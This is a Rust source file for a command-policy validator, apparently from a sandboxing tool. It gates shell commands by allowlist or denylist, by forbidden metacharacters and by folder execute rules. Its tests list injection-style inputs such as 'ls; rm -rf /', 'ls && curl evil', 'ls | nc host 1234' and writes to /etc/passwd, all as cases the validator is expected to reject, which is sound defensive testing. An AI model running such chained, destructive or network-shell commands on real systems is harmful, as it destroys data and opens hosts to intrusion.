use std::path::Path;

use tracing::info;
use warden_protocol::ValidationResult;

use crate::config::CommandPolicyMode;
use crate::config::Config;
use crate::policy::FolderPolicyEngine;

/// Metacharacters that would let a command smuggle a second program past
/// first-token matching. Scanned over the whole command string because the
/// container backend ultimately forwards shell commands through `/bin/sh -c`.
const SHELL_METACHARACTERS: &[char] = &[';', '&', '|', '`', '<', '>', '\n', '\r'];

/// Gate one shell command against the configured whitelist or blacklist.
///
/// The matched token is the first whitespace-delimited word after leading
/// subexpression noise, compared case-insensitively with any `.exe` suffix
/// and path prefix ignored. When `cwd` is given, the policy engine's
/// `execute` rule for that directory is enforced as well.
pub fn validate_command(
    command: &str,
    cwd: Option<&Path>,
    engine: &FolderPolicyEngine,
    config: &Config,
) -> ValidationResult {
    let trimmed = command.trim();
    if trimmed.is_empty() {
        return ValidationResult::deny("empty command");
    }

    let verdict = command_verdict(trimmed, cwd, engine, config);

    if let Some(dir) = cwd {
        if engine.effective(dir).enable_audit {
            info!(
                command = trimmed,
                cwd = %dir.display(),
                allowed = verdict.allowed,
                reason = verdict.reason.as_deref().unwrap_or(""),
                "command audit"
            );
        }
    }

    verdict
}

fn command_verdict(
    trimmed: &str,
    cwd: Option<&Path>,
    engine: &FolderPolicyEngine,
    config: &Config,
) -> ValidationResult {
    if let Some(meta) = find_metacharacter(trimmed) {
        return ValidationResult::deny(format!(
            "command contains forbidden shell metacharacter {meta}"
        ));
    }

    let Some(token) = command_token(trimmed) else {
        return ValidationResult::deny("could not determine command name");
    };

    match config.command.mode {
        CommandPolicyMode::Whitelist => {
            if !contains_token(&config.command.allowed, &token) {
                return ValidationResult::deny(format!("command '{token}' not in allowlist"));
            }
        }
        CommandPolicyMode::Blacklist => {
            if contains_token(&config.command.denied, &token) {
                return ValidationResult::deny(format!("command '{token}' is blocked"));
            }
        }
    }

    if let Some(dir) = cwd {
        if !engine.is_execute_allowed(dir) {
            return ValidationResult::deny(format!(
                "process spawn not permitted under '{}'",
                dir.display()
            ));
        }
    }

    ValidationResult::allow()
}

fn find_metacharacter(command: &str) -> Option<String> {
    if command.contains("$(") {
        return Some("'$('".to_string());
    }
    command
        .chars()
        .find(|c| SHELL_METACHARACTERS.contains(c))
        .map(|c| format!("'{}'", c.escape_default()))
}

/// Extract the token the allow/deny lists are matched against: the first
/// whitespace-delimited word of the command.
fn command_token(command: &str) -> Option<String> {
    let first = command.split_whitespace().next()?;

    // Strip leading subexpression noise, any path prefix, and a Windows
    // executable extension, so `("C:\tools\RM.EXE")` still matches `rm`.
    let bare = first.trim_start_matches(['(', '"', '\'']);
    let bare = bare
        .rsplit(['/', '\\'])
        .next()
        .unwrap_or(bare)
        .trim_end_matches([')', '"', '\'']);
    let bare = strip_exe_suffix(bare);

    if bare.is_empty() {
        None
    } else {
        Some(bare.to_string())
    }
}

fn strip_exe_suffix(token: &str) -> &str {
    let lower = token.to_ascii_lowercase();
    if let Some(stripped_len) = lower.strip_suffix(".exe").map(str::len) {
        &token[..stripped_len]
    } else {
        token
    }
}

fn contains_token(set: &std::collections::BTreeSet<String>, token: &str) -> bool {
    set.iter().any(|entry| entry.eq_ignore_ascii_case(token))
}

#[cfg(test)]
mod tests {
    use super::*;
    use maplit::btreeset;
    use pretty_assertions::assert_eq;

    fn whitelist(allowed: &[&str]) -> Config {
        let mut config = Config::default();
        config.command.mode = CommandPolicyMode::Whitelist;
        config.command.allowed = allowed.iter().map(|s| s.to_string()).collect();
        config
    }

    #[test]
    fn whitelist_admits_listed_commands() {
        let engine = FolderPolicyEngine::new();
        let config = whitelist(&["Get-Content", "Write-Output"]);

        assert!(validate_command("Get-Content foo.txt", None, &engine, &config).allowed);

        let rejected = validate_command("Invoke-Expression danger", None, &engine, &config);
        assert!(!rejected.allowed);
        assert_eq!(
            rejected.reason.as_deref(),
            Some("command 'Invoke-Expression' not in allowlist")
        );
    }

    #[test]
    fn matching_is_case_insensitive() {
        let engine = FolderPolicyEngine::new();
        let config = whitelist(&["get-content"]);
        assert!(validate_command("GET-CONTENT x", None, &engine, &config).allowed);
    }

    #[test]
    fn exe_suffix_and_path_prefix_are_ignored() {
        let engine = FolderPolicyEngine::new();
        let config = whitelist(&["rm"]);
        assert!(validate_command(r"C:\tools\RM.EXE -r target", None, &engine, &config).allowed);
        assert!(validate_command("/usr/bin/rm file", None, &engine, &config).allowed);
    }

    #[test]
    fn blacklist_blocks_listed_commands_only() {
        let engine = FolderPolicyEngine::new();
        let mut config = Config::default();
        config.command.denied = btreeset! {"rm".to_string()};

        let rejected = validate_command("rm -rf /", None, &engine, &config);
        assert!(!rejected.allowed);
        assert_eq!(rejected.reason.as_deref(), Some("command 'rm' is blocked"));

        assert!(validate_command("ls -la", None, &engine, &config).allowed);
    }

    #[test]
    fn metacharacters_are_rejected_before_token_matching() {
        let engine = FolderPolicyEngine::new();
        let config = whitelist(&["ls"]);

        for command in [
            "ls; rm -rf /",
            "ls && curl evil",
            "ls | nc host 1234",
            "ls `whoami`",
            "ls $(whoami)",
            "ls > /etc/passwd",
        ] {
            let verdict = validate_command(command, None, &engine, &config);
            assert!(!verdict.allowed, "expected rejection for {command:?}");
            assert!(verdict.reason.unwrap().contains("metacharacter"));
        }
    }

    #[test]
    fn empty_command_is_rejected() {
        let engine = FolderPolicyEngine::new();
        let config = Config::default();
        assert!(!validate_command("   ", None, &engine, &config).allowed);
    }

    #[test]
    fn execute_rule_for_the_cwd_is_enforced() {
        use warden_protocol::AccessLevel;
        use warden_protocol::FolderPolicy;
        use warden_protocol::InheritableRule;

        let engine = FolderPolicyEngine::new();
        let mut no_spawn = FolderPolicy::new("/quarantine", AccessLevel::ReadWrite);
        no_spawn.execute = InheritableRule::Deny;
        engine.add_policy(no_spawn);

        let config = Config::default();
        let rejected =
            validate_command("ls", Some(Path::new("/quarantine/sub")), &engine, &config);
        assert!(!rejected.allowed);
        assert!(rejected.reason.unwrap().contains("spawn"));

        assert!(validate_command("ls", Some(Path::new("/home")), &engine, &config).allowed);
    }
}
